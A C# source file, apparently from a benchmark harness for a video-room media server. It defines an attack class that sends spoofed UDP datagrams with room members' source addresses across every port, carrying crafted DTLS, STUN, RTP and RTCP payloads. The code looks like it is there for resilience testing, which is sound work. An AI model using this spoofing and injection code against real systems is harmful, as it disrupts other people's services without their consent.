using System.Buffers.Binary;

namespace Videoroom.Bench.Attack.Attacks;

/// <summary>
/// Datagrams with the source addresses of the room's members: from all ports in turn, because a stranger does not know which they use.
/// What is in them needs no key and no name.
/// </summary>
internal sealed class ForgedDatagrams : IAttack
{
    private const int DatagramsPerStep = 64;
    private const int FirstPort = 1024;
    private const int LastPort = 65535;

    private static readonly byte[][] Payloads =
    [
        // A sealed DTLS record of one byte, an alert in plain text, a hello without a body.
        Convert.FromHexString("16FEFD0001000000000001000100"),
        Convert.FromHexString("15FEFD000000000000000100020228"),
        Convert.FromHexString("16FEFD0000000000000002000C010000000000000000000000"),

        // A Binding request without credentials.
        Convert.FromHexString("000100002112A442000102030405060708090A0B"),

        // RTP and RTCP of nobody.
        [0x80, 0x6F, 0, 1, 0, 0, 0, 1, 0, 0, 0x30, 0x01, .. new byte[160]],
        [0x81, 0xCB, 0, 1, 0, 0, 0x30, 0x01, .. new byte[14]],
    ];

    private readonly SpoofedSocket _socket;
    private readonly uint _firstMember;
    private readonly int _members;
    private int _port = FirstPort;
    private int _member;

    public ForgedDatagrams(AttackerOptions options)
    {
        _socket = new SpoofedSocket(options.Media);
        _firstMember = BinaryPrimitives.ReadUInt32BigEndian(options.FirstMember.GetAddressBytes()) + 1;
        _members = options.Members;
    }

    public long Attempts { get; private set; }

    public long Failed => 0;

    public long Bytes { get; private set; }

    public string Detail => _socket.Detail;

    public void Step()
    {
        for (var sent = 0; sent < DatagramsPerStep; sent += Payloads.Length)
        {
            foreach (var payload in Payloads)
            {
                _socket.Send(_firstMember + (uint)_member, _port, payload);
                Attempts++;
                Bytes += payload.Length;
            }

            _member = (_member + 1) % _members;
            if (_member == 0)
            {
                _port = _port == LastPort ? FirstPort : _port + 1;
            }
        }
    }

    public Task ReleaseAsync() => Task.CompletedTask;

    public ValueTask DisposeAsync()
    {
        _socket.Dispose();
        return ValueTask.CompletedTask;
    }
}
